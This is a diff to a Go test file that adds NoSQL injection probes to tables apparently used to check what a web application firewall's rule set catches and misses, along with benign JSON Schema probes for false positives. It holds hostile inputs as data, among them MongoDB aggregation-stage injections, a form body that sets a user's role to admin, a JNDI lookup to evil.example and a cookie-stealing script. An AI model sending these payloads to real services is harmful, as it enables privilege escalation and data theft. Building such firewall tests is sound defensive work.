@@ -103,6 +103,10 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "NoSQL $accumulator", method: "POST", path: "/find", contentType: js, body: `{"group": {"$accumulator": {"init": "function() { return 1 }"}}}`},
 		{name: "NoSQL $where in a string of JSON", method: "POST", path: "/find", contentType: js, body: `{"q": "{\"$where\": \"sleep(5000)\"}"}`},
 		{name: "JSON sent as text/plain, template in a leaf", method: "POST", path: "/api", contentType: "text/plain", body: `{"name": "{{7*7}}"}`},
+		{name: "NoSQL stage $addFields in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$addFields": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $project in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$project": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $group in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$group": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL $set update in a form", method: "POST", path: "/profile", contentType: form, body: "user[$set][role]=admin"},
 		{name: "session fixation", method: "GET", path: "/?x=" + q(`<meta http-equiv="Set-Cookie" content="sessionid=abc">`)},
 	}
 	crsMisses = []probe{
@@ -124,6 +128,20 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "JSON sent as a form, base64 XSS in a leaf", method: "POST", path: "/api", contentType: form, body: `{"q": "` + b64("<script>alert(document.cookie)</script>") + `"}`},
 		{name: "JSON sent as XML, base64 jndi in a leaf", method: "POST", path: "/api", contentType: "application/xml", body: `[{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}]`},
 		// NoSQL
+		{name: "NoSQL stage $lookup in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$lookup": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $unionWith in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$unionWith": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $graphLookup in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$graphLookup": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $out in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$out": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $merge in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$merge": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $match in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$match": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $facet in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$facet": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $replaceRoot in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$replaceRoot": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $replaceWith in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$replaceWith": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $sample in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$sample": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL stage $unwind in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$unwind": {"from": "users", "as": "u"}}]`},
+		{name: "NoSQL $$ROOT in JSON", method: "POST", path: "/find", contentType: js, body: `{"newRoot": "$$ROOT"}`},
+		{name: "NoSQL $lookup as a bracketed query name", method: "GET", path: "/find?a[$lookup]=x"},
+		{name: "NoSQL $unionWith in JSON inside a parameter", method: "GET", path: "/find?pipeline=" + q(`[{"$unionWith": "secrets"}]`)},
 		// LDAP the CRS 4.25 misses: payloads that 921200's anchored
 		// pattern does not start on
 		{name: "LDAP: a whole or-filter", method: "GET", path: "/users?name=" + q("(|(uid=*)(userPassword=*))")},
@@ -160,6 +178,9 @@ func benignTable() []probe {
 		{name: "a query with an email", method: "GET", path: "/users?email=" + q("jane.doe+test@example.com") + "&sort=-created_at"},
 		{name: "JSON Schema ($schema, $ref, $id, $defs)", method: "POST", path: "/api/schemas", contentType: js,
 			body: `{"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "https://example.com/person", "type": "object", "properties": {"address": {"$ref": "#/$defs/address"}}, "$defs": {"address": {"type": "object"}}}`},
+		{name: "JSON Schema 2020-12 keywords ($anchor, $dynamicRef, $dynamicAnchor, $vocabulary, $comment)", method: "POST", path: "/api/schemas", contentType: js,
+			body: `{"$schema": "https://json-schema.org/draft/2020-12/schema", "$vocabulary": {"https://json-schema.org/draft/2020-12/vocab/core": true}, "$defs": {"node": {"$anchor": "node", "$dynamicAnchor": "meta", "$comment": "a tree", "items": {"$dynamicRef": "#meta"}}}, "$ref": "#node"}`},
+		{name: "prices and totals named like operators in text", method: "POST", path: "/api", contentType: js, body: `{"note": "match the $out and group totals; costs $5", "sort": "-created_at", "limit": 10}`},
 		{name: "a $comment and a $ in a value", method: "POST", path: "/api", contentType: js, body: `{"$comment": "pricing", "total": "$ 12.50"}`},
 		{name: "Markdown with a Mustache variable", method: "POST", path: "/api/docs", contentType: js,
 			body: `{"text": "Hello {{name}}, your order {{order.id}} ships today. Use {{#items}}...{{/items}} to loop."}`},
